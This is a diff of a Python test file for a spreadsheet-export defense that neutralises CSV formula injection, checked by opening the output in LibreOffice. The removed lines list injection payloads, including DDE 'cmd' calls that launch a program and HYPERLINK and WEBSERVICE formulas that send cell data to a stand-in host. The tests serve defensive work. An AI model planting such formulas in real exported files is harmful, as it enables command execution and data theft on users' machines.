@@ -2,30 +2,14 @@
 
 import csv
 import re
-import shutil
-import subprocess
 
 import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 from tests.effort import examples
+from tests.libreoffice import BEFORE, FORMULAS, SIGNS, needs_libreoffice, opened
 
 from weilu.connect.spreadsheets import as_written, harmless
-
-SIGNS = "=+-@\t\r＝＋－＠"
-FORMULAS = [
-    *(f"{sign}1+1" for sign in SIGNS),
-    '=HYPERLINK("http://elsewhere.example/?"&A1,"围炉")',
-    "=cmd|' /C calc'!A0",
-    "@SUM(1;2)",
-    "'=1+1",
-    "-2+3+cmd|' /C calc'!A0",
-    '=DDE("a";"b";"c")',
-    '=WEBSERVICE("http://elsewhere.example")',
-]
-SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
-#: Comma, quotes, UTF-8, from the first line; the last token has formulas evaluated.
-READING = "CSV:44,34,76,1,,0,false,true,false,false,false,0,true"
 
 
 @example("+")
@@ -44,21 +28,22 @@ def test_what_looks_like_a_formula_is_text(text):
     assert harmless(text) == f"'{text}"
 
 
-@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not on this machine")
-def test_libreoffice_evaluates_no_cell(tmp_path):
-    table = tmp_path / "table.csv"
-    with table.open("w", encoding="utf-8", newline="") as file:
-        csv.writer(file, quoting=csv.QUOTE_ALL).writerows([harmless(text)] for text in FORMULAS)
+@needs_libreoffice
+@pytest.mark.parametrize("also_saved", [False, True], ids=["opened", "saved as a workbook"])
+def test_libreoffice_evaluates_no_cell(tmp_path, also_saved):
+    texts = [before + text for before in BEFORE for text in FORMULAS]
+    written(tmp_path / "table.csv", [harmless(text) for text in texts])
 
-    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
-    options = ["--headless", f"--infilter={READING}", "--convert-to", "fods"]
-    subprocess.run(
-        [str(SOFFICE), profile, *options, "--outdir", str(tmp_path), str(table)],
-        check=True,
-        capture_output=True,
-        timeout=180,
-    )
+    assert opened(tmp_path / "table.csv", also_saved=also_saved) == (len(texts), 0)
 
-    saved = (tmp_path / "table.fods").read_text("utf-8")
-    assert "HYPERLINK" in saved
-    assert "table:formula" not in saved
+
+@needs_libreoffice
+def test_libreoffice_would_evaluate_what_is_left_as_it_was(tmp_path):
+    written(tmp_path / "table.csv", ["=1+1", '=HYPERLINK("http://elsewhere.example/")'])
+
+    assert opened(tmp_path / "table.csv") == (2, 2)
+
+
+def written(path, cells):
+    with path.open("w", encoding="utf-8", newline="") as file:
+        csv.writer(file, quoting=csv.QUOTE_ALL).writerows([cell] for cell in cells)
